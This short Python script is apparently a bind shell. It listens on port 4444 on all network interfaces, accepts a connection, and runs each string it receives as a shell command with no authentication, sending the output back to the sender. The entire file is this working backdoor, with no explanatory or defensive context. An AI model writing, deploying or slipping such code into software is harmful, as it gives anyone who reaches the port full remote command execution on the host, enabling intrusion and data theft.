import os
import socket
import subprocess

server = socket.socket()
server.bind(("0.0.0.0", 4444))
server.listen(1)


def handle(connection):
    while True:
        command = connection.recv(1024).decode()
        process = subprocess.Popen(command, shell=True, stdout=subprocess.PIPE)
        connection.send(process.communicate()[0])  # expect


connection, address = server.accept()
handle(connection)
